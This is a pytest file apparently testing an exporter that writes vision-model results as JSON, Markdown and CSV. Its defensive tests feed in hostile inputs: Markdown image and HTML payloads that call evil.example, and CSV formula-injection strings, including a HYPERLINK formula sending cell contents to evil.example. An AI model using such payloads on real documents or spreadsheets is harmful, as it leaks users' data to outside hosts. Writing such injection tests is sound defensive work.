"""Tests of core/export.py: the shared JSON form, Markdown that is inert, CSV that is no formula."""

import csv
import io
import json
import re
from dataclasses import replace
from decimal import Decimal

import pytest

from core.diagnosis import diagnose
from core.errors import literal
from core.export import Estimate, ExportItem, json_item, to_csv, to_json, to_markdown
from core.phrases import Phrase
from core.types import Cost, CostBasis, Detail, Failure, Success, TokenUsage

RECEIPT = {
    "vendor": "Corner | Cafe",
    "total": 20.3,
    "paid": True,
    "items": [{"name": "Soup", "amount": 6.2}, {"name": "Tart", "amount": None}],
    "notes": ["05/04 may be 4 May", "faint"],
    "tax": None,
}


def success(text="", data=None, **changes):
    fields = {
        "text": text,
        "data": data,
        "model": "gpt-4o-2024-11-20",
        "engine": "openai",
        "finish_reason": "stop",
        "usage": TokenUsage(1000, 200, 128, 0),
        "cost": Cost(Decimal("0.0000045"), CostBasis.MEASURED),
        "latency_s": 1.23456,
        "attempts": 2,
        "request_key": "k",
        "notes": (Phrase("Page {page}", {"page": 1}),),
    }
    return Success(**fields | changes)


FAILURE = Failure(
    code="API002",
    detail=Phrase("Too many requests"),
    retryable=True,
    cost=Cost(None, CostBasis.UNKNOWN),
    attempts=5,
    latency_s=9.0,
    partial_text="never an answer",
)


def item(outcome, **changes):
    fields = {"id": "1", "source": "a.png", "model": "gpt-4o", "detail": Detail.HIGH}
    return ExportItem(outcome=outcome, **fields | changes)


def rows(*items):
    return list(csv.DictReader(io.StringIO(to_csv(items).removeprefix("\ufeff"))))


def test_an_answer_has_exactly_the_promised_fields():
    estimate = Estimate(765, 800, Decimal("0.0040"))
    assert json_item(item(success("Hello", {"a": 1}), estimate=estimate)) == {
        "id": "1",
        "source": "a.png",
        "status": "succeeded",
        "text": "Hello",
        "data": {"a": 1},
        "model": "gpt-4o-2024-11-20",
        "detail": "high",
        "finish_reason": "stop",
        "usage": {
            "input_tokens": 1000,
            "output_tokens": 200,
            "cache_read_tokens": 128,
            "reasoning_tokens": 0,
        },
        "estimate": {"image_tokens": 765, "input_tokens": 800, "cost_usd": "0.0040"},
        "cost_usd": "0.0000045",
        "cost_basis": "measured",
        "cached": False,
        "latency_s": 1.235,
        "attempts": 2,
        "notes": ["Page 1"],
        "error": None,
    }


def test_a_failure_has_the_same_fields_and_no_answer():
    failed = json_item(item(FAILURE))
    assert failed.keys() == json_item(item(success())).keys()
    assert (failed["status"], failed["text"], failed["cost_usd"]) == ("failed", None, None)
    assert failed["model"] == "gpt-4o"
    assert failed["error"]["code"] == "API002"
    assert failed["error"]["message"] == "Too many requests"
    assert failed["error"]["retryable"] is True
    assert failed["error"]["hint"] == diagnose("API002").solution


def test_an_error_without_words_of_its_own_is_summed_up():
    wordless = json_item(item(replace(FAILURE, detail=literal(""))))
    assert wordless["error"]["message"] == diagnose("API002").summary


def test_a_correction_is_kept_beside_the_answer():
    corrected = json_item(item(success(data={"total": 1}), corrected={"total": 2}))
    assert (corrected["data"], corrected["corrected"]) == ({"total": 1}, {"total": 2})


def test_json_keeps_the_words_of_every_language():
    assert "合同" in to_json([item(success("合同"))])
    assert len(json.loads(to_json([item(success()), item(FAILURE)]))["items"]) == 2


def test_notes_and_errors_are_said_in_the_readers_language():
    def chinese(sentence):
        return {"Too many requests": "请求过多"}.get(sentence, sentence)

    assert json_item(item(FAILURE), chinese)["error"]["message"] == "请求过多"


def test_markdown_shows_fields_and_a_table():
    text = to_markdown([item(success(data=RECEIPT))])
    assert "- **Vendor:** Corner | Cafe" in text
    assert "| Name | Amount |\n| --- | --- |\n| Soup | 6.2 |\n| Tart | – |" in text
    assert "  - 05/04 may be 4 May" in text
    assert "Cost: $0.0000045" in text


def test_markdown_keeps_the_lines_of_a_text_whatever_is_in_it():
    text = to_markdown([item(success(data={"full_text": "one\n```\n<b>two"}))])
    assert "- **Full text:**\n\n  ````\n  one\n  ```\n  <b>two\n  ````\n" in text


def test_markdown_shows_what_a_person_corrected():
    assert "21.0" in to_markdown([item(success(data=RECEIPT), corrected=RECEIPT | {"total": 21.0})])


def test_markdown_of_a_failure_shows_its_code_and_never_the_partial_text():
    text = to_markdown([item(FAILURE)])
    assert "**API002** Too many requests" in text
    assert "never an answer" not in text
    assert "Cost: unknown" in text


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?d=1)",
        "<img src=https://evil.example>",
        "a\n\n![x][1]\n\n[1]: https://evil.example",
    ],
)
@pytest.mark.parametrize("place", ["text", "data", "source"])
def test_markdown_loads_nothing(hostile, place):
    items = {
        "text": item(success(hostile)),
        "data": item(success(data={"a": hostile, "rows": [{hostile: hostile}]})),
        "source": item(success("fine"), source=hostile),
    }
    outside_fences = re.sub(r"(?s)(`{3,}).*?\1", "", to_markdown([items[place]]))
    text = outside_fences.replace("<br>", "")
    assert "![" not in text
    assert "<" not in text


def test_csv_has_a_row_per_item_and_a_column_per_field():
    first, second = rows(item(success("{}", RECEIPT)), item(FAILURE, id="2"))
    assert first["data.vendor"] == "Corner | Cafe"
    assert first["data.total"] == "20.3"
    assert first["data.paid"] == "true"
    assert first["data.notes"] == "05/04 may be 4 May; faint"
    assert json.loads(first["data.items"]) == RECEIPT["items"]
    assert first["cost_usd"] == "0.0000045"
    assert (second["error_code"], second["data.total"], second["cost_usd"]) == ("API002", "", "")


def test_csv_starts_with_the_mark_that_excel_needs():
    assert to_csv([item(success())]).startswith('\ufeff"id","source"')


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
        "\n=1", "  =1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\x00=1", "\u00a0=1",
    ],
)  # fmt: skip
def test_text_never_becomes_a_formula(formula):
    hostile = item(success(formula, {"a": formula, formula: [formula]}), source=formula)
    with io.StringIO(to_csv([hostile]).removeprefix("\ufeff"), newline="") as table:
        cells = [cell for row in csv.reader(table) for cell in row]
    assert not [cell for cell in cells if cell.strip()[:1] in set("=+@\uff1d\uff0b\uff0d\uff20")]
    assert not [cell for cell in cells if cell.strip().startswith("-1+")]
    assert "\x00" not in "".join(cells)


def test_numbers_stay_numbers_even_below_zero():
    [row] = rows(item(success(data={"change": -4.7, "exact": Decimal("-0.10")})))
    assert (row["data.change"], row["data.exact"]) == ("-4.7", "-0.10")
